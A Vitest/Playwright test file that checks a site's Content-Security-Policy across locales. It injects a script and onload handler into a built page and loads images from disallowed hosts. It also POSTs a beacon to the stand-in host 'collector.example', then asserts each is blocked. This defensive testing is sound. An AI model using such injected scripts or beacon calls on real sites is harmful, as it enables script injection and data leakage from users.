import {readFile} from 'node:fs/promises';
import path from 'node:path';
import {afterAll, beforeAll, describe, expect, inject, it} from 'vitest';
import {localeUrl, startChromium} from './checkPage';
import {NOT_FOUND_PATH, PAGE_TYPES} from './pageTypes';
import {BUILD_DIR} from './server';
import {LOCALES} from '../../locales';
import type {Browser, BrowserContext, Page} from 'playwright-core';

const baseUrl = inject('baseUrl');

/** Every type of page, thread 34 (the sample thread with hostile-looking text), and the locale's 404 page. */
const PAGES = [...PAGE_TYPES.map((type) => type.path), '/forum/34', '/docs/privacy', NOT_FOUND_PATH];

/** A query per locale that has results, run through the search dialog. */
const QUERIES: Record<string, string> = {en: 'fellowship', ar: 'مرشد', es: 'secretaría', fr: 'contribution', ru: 'наставник', zh: '标准化'};

// Violations are recorded by the page itself, from its very first script on.
const recordViolations = () => {
  const seen: string[] = [];
  (window as unknown as {cspViolations: string[]}).cspViolations = seen;
  document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`), true);
};

let browser: Browser;
let context: BrowserContext;
beforeAll(async () => {
  browser = await startChromium();
  // No service worker (issue 23): the tests answer tampered pages with page.route, which never sees what a worker answers.
  context = await browser.newContext({serviceWorkers: 'block'});
  await context.addInitScript(recordViolations);
});
afterAll(async () => {
  await browser?.close();
});

/** Opens `url` and returns what the policy blocked there, as events and as console messages. */
async function visit(page: Page, url: string, act: (page: Page) => Promise<void> = async () => {}): Promise<string[]> {
  const refused: string[] = [];
  const listener = (message: {text: () => string}) => {
    if (/Content Security Policy/i.test(message.text())) refused.push(message.text());
  };
  page.on('console', listener);
  await page.goto(url, {waitUntil: 'load'});
  await page.waitForSelector('html[data-has-hydrated="true"]');
  expect(await page.locator('head > meta[http-equiv="Content-Security-Policy"]').count(), `the policy of ${url}`).toBe(1);
  await act(page);
  const events = await page.evaluate(() => (window as unknown as {cspViolations: string[]}).cspViolations);
  page.off('console', listener);
  return [...events, ...refused].map((violation) => `${url}: ${violation}`);
}

/** Runs `query` in the search dialog; fails soon, with the violations, if no result comes. */
async function runSearch(page: Page, query: string): Promise<void> {
  await page.keyboard.press('/');
  await page.getByRole('dialog').locator('input[type="search"]').fill(query);
  const found = await page.getByRole('dialog').locator('ol a').first().waitFor({timeout: 10_000}).then(() => true, () => false);
  if (!found) await page.evaluate((text) => (window as unknown as {cspViolations: string[]}).cspViolations.push(`no result for "${text}"`), query);
}

describe('the Content-Security-Policy', () => {
  it.each(LOCALES)('blocks nothing the site itself does: %s', async (locale) => {
    const page = await context.newPage();
    try {
      const violations: string[] = [];
      for (const path of PAGES) violations.push(...(await visit(page, localeUrl(baseUrl, locale, path))));
      // The offline search compiles WebAssembly and loads its index under the policy.
      violations.push(...(await visit(page, localeUrl(baseUrl, locale, '/docs/handbooks/newcomers-handbook'), (p) => runSearch(p, QUERIES[locale] ?? ''))));
      expect(violations).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it('keeps a script added to a built page from running, and reports it', async () => {
    const built = await readFile(path.join(BUILD_DIR, 'docs/handbooks/newcomers-handbook.html'), 'utf8');
    expect(built).toContain('http-equiv="Content-Security-Policy"');
    const tampered = built.replace('</body>', () => '<script>window.pwned=1</script><img src="/img/logo.svg" onload="window.pwned=2" alt=""></body>');
    const page = await context.newPage();
    try {
      await page.route(`${baseUrl}/tampered`, (route) => route.fulfill({body: tampered, contentType: 'text/html; charset=utf-8'}));
      const violations = await visit(page, `${baseUrl}/tampered`);
      expect(await page.evaluate(() => (window as unknown as {pwned?: number}).pwned)).toBeUndefined();
      expect(violations.filter((violation) => violation.includes('script-src')).length).toBeGreaterThanOrEqual(2);
    } finally {
      await page.close();
    }
  });

  it('loads images only from the site and GitHub\'s attachment hosts, and connects only to the site', async () => {
    const built = await readFile(path.join(BUILD_DIR, 'forum/34.html'), 'utf8');
    expect(built).toMatch(/content="default-src 'self';[^"]* img-src 'self' data: https:\/\/github\.com\/user-attachments\/assets\/ [^"]*; connect-src 'self';/);
    const images = ['https://github.com/user-attachments/assets/1f2e', 'https://user-images.githubusercontent.com/1/a.png', 'https://tracker.example/pixel.png', 'https://github.com/evil.png'];
    const tampered = built.replace('</body>', () => `${images.map((src) => `<img src="${src}" alt="">`).join('')}</body>`);
    const page = await context.newPage();
    try {
      const requested: string[] = [];
      await page.route('https://**/*', (route) => {
        requested.push(route.request().url());
        return route.fulfill({body: 'GIF89a', contentType: 'image/gif'});
      });
      await page.route(`${baseUrl}/tampered`, (route) => route.fulfill({body: tampered, contentType: 'text/html; charset=utf-8'}));
      const violations = await visit(page, `${baseUrl}/tampered`, async (p) => {
        await p.evaluate(() => fetch('https://collector.example/beacon', {method: 'POST', body: 'x'}).catch(() => undefined));
        await p.waitForTimeout(500);
      });
      expect(requested.sort()).toEqual(images.slice(0, 2).sort());
      expect(violations.filter((violation) => / img-src https:\/\/(tracker\.example|github\.com)/.test(violation))).toHaveLength(2);
      expect(violations.filter((violation) => violation.includes('connect-src https://collector.example'))).toHaveLength(1);
    } finally {
      await page.close();
    }
  });

  it('lets the ask form go to GitHub without JavaScript (form-action)', async () => {
    const noScript = await browser.newContext({javaScriptEnabled: false});
    try {
      const page = await noScript.newPage();
      let reached = '';
      await page.route('https://github.com/**', (route) => {
        reached = route.request().url();
        return route.fulfill({body: 'GitHub', contentType: 'text/plain'});
      });
      await page.goto(`${baseUrl}/forum/ask`);
      await page.fill('input[name="title"]', 'A title');
      await page.fill('textarea[name="body"]', 'A question');
      await Promise.all([page.waitForURL('https://github.com/**', {timeout: 10_000}), page.click('button[type="submit"]')]);
      expect(reached).toMatch(/^https:\/\/github\.com\/.*\/discussions\/new\?title=A\+title/);
    } finally {
      await noScript.close();
    }
  });
});
